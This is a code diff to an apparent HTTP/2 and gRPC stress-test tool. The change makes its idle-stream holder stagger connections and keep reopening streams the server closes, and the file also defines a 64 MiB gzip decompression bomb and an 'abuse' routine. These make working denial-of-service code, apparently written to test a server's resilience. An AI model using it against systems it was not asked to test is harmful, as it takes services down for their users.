@@ -29,6 +29,8 @@ METHODS = (
     *("/grpc.health.v1.Health/Watch", "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"),
 )
 STREAMS_OF_A_CONNECTION = 1000
+CONNECTION_EVERY_S = 0.5
+REOPENED_A_SECOND = 100  # of a connection's idle streams
 PAUSE_S = 0.05  # between two attacks of a kind: what is shown is not that a full machine is slow
 HELLO = http2.PREFACE + frame(http2.SETTINGS)
 BOMB = gzip.compress(bytes(64 << 20))
@@ -204,9 +206,10 @@ class Idle:
 
     async def hold(self) -> None:
         """Keep them open until cancelled."""
-        await asyncio.gather(*map(self._hold, self._of_connections))
+        await asyncio.gather(*(self._hold(*each) for each in enumerate(self._of_connections)))
 
-    async def _hold(self, streams: int) -> None:
+    async def _hold(self, place: int, streams: int) -> None:
+        await asyncio.sleep(place * CONNECTION_EVERY_S)
         while True:
             with suppress(OSError):
                 await self._hold_once(streams)
@@ -214,14 +217,8 @@ class Idle:
 
     async def _hold_once(self, streams: int) -> None:
         peer, own = await Peer.at(self._address), set[int]()
+        opening = asyncio.create_task(self._keep_open(peer, own, streams))
         try:
-            await peer.send(HELLO)
-            for stream in range(1, 2 * streams, 2):
-                await peer.send(frame(http2.HEADERS, 4, stream, self._headers))
-                own.add(stream)
-                self.opened += 1
-                self._open += 1
-            self.most_open = max(self.most_open, self._open)
             while found := await peer.frames():
                 for kind, flags, stream in found:
                     is_end = kind == http2.RST_STREAM or (kind == http2.HEADERS and flags & 1)
@@ -232,8 +229,25 @@ class Idle:
                     if kind == http2.GOAWAY:
                         return
         finally:
+            opening.cancel()
+            await asyncio.gather(opening, return_exceptions=True)
             self._open -= len(own)
             await peer.close()
+
+    async def _keep_open(self, peer: Peer, own: set[int], streams: int) -> None:
+        """Open so many, and then others for those that the server ended."""
+        await peer.send(HELLO)
+        stream, at_once = 1, streams
+        while True:
+            for _ in range(min(at_once, streams - len(own))):
+                await peer.send(frame(http2.HEADERS, 4, stream, self._headers))
+                own.add(stream)
+                stream += 2
+                self.opened += 1
+                self._open += 1
+            self.most_open = max(self.most_open, self._open)
+            await asyncio.sleep(1.0)
+            at_once = REOPENED_A_SECOND
 
 
 async def abuse(address: str, token: str, seconds: float, idle_streams: int, seed: int) -> dict[str, object]:
